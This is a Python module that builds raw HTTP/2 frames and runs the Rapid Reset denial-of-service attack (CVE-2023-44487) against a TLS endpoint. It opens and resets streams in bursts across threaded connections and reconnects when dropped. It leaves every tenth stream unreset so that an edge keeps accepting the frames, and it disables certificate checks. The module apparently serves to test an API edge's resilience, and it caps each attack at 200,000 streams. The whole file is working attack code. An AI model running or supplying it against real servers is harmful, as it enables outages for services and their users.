"""HTTP/2 streams that a client repeatedly opens and immediately resets (CVE-2023-44487).

This module creates the frames, because no client library sends them: RFC 9113, and header fields without compression
(RFC 7541, section 6.2.2).
"""

from __future__ import annotations

import socket
import ssl
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager

HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL_ERROR_CODE = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STREAMS_AT_ONCE = 100
"""Number of streams per write."""

UNRESET_STREAM_INTERVAL = 10
"""Number of streams of which one isn't reset: if an edge accepts none, it treats the frames as errors."""

STREAMS_PER_CONNECTION = 1000
"""nginx ignores streams after `keepalive_requests`, so the client reconnects."""

MAX_STREAMS = 200_000
"""Limit of one attack, after which it ends by itself."""


class Attack:
    """Counts what the clients have sent so far."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.streams = 0
        self.connections = 0
        self.stop = threading.Event()

    def sent(self, *, streams: int = 0, connections: int = 0) -> None:
        """Count the streams that were sent; end the attack at its limit."""
        with self._lock:
            self.streams += streams
            self.connections += connections
            if self.streams >= MAX_STREAMS:
                self.stop.set()


@contextmanager
def rapid_reset(address: tuple[str, int], host: str, path: str, source: str, *, clients: int = 4) -> Iterator[Attack]:
    """Open and reset streams on `clients` connections until the end of the block; reconnect whenever one is closed.

    Args:
        address: where the edge listens with TLS.
        host: the API's host name.
        path: that each stream asks for.
        source: the address of the attacking client.
        clients: how many connections there are at a time.
    """
    attack = Attack()
    threads = [threading.Thread(target=_attack, args=(attack, address, host, path, source)) for _ in range(clients)]
    for thread in threads:
        thread.start()
    try:
        yield attack
    finally:
        attack.stop.set()
        for thread in threads:
            thread.join()


def _attack(attack: Attack, address: tuple[str, int], host: str, path: str, source: str) -> None:
    block = b"".join(
        _field(name, value)
        for name, value in {":method": "GET", ":scheme": "https", ":authority": host, ":path": path}.items()
    )
    while not attack.stop.is_set():
        try:
            with _connect(address, host, source) as connection:
                connection.sendall(PREFACE + _frame(SETTINGS, 0, 0, b""))
                attack.sent(connections=1)
                for first in range(1, 2 * STREAMS_PER_CONNECTION, 2 * STREAMS_AT_ONCE):
                    if attack.stop.is_set():
                        break
                    numbers = range(first, first + 2 * STREAMS_AT_ONCE, 2)
                    connection.sendall(b"".join(_request_headers_frame(number, block) for number in numbers))
                    attack.sent(streams=STREAMS_AT_ONCE)
        except OSError:
            # The edge may close the connection of such a client.
            continue


def _request_headers_frame(number: int, block: bytes) -> bytes:
    """Return a stream's HEADERS, and its RST_STREAM except for the first stream of each `UNRESET_STREAM_INTERVAL`."""
    opened = _frame(HEADERS, END_HEADERS | END_STREAM, number, block)
    if number // 2 % UNRESET_STREAM_INTERVAL == 0:
        return opened
    return opened + _frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL_ERROR_CODE))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _field(name: str, value: str) -> bytes:
    """Return a literal header field without indexing; each length is below 127."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def _connect(address: tuple[str, int], host: str, source: str) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection(address, timeout=30, source_address=(source, 0))
    return context.wrap_socket(plain, server_hostname=host)
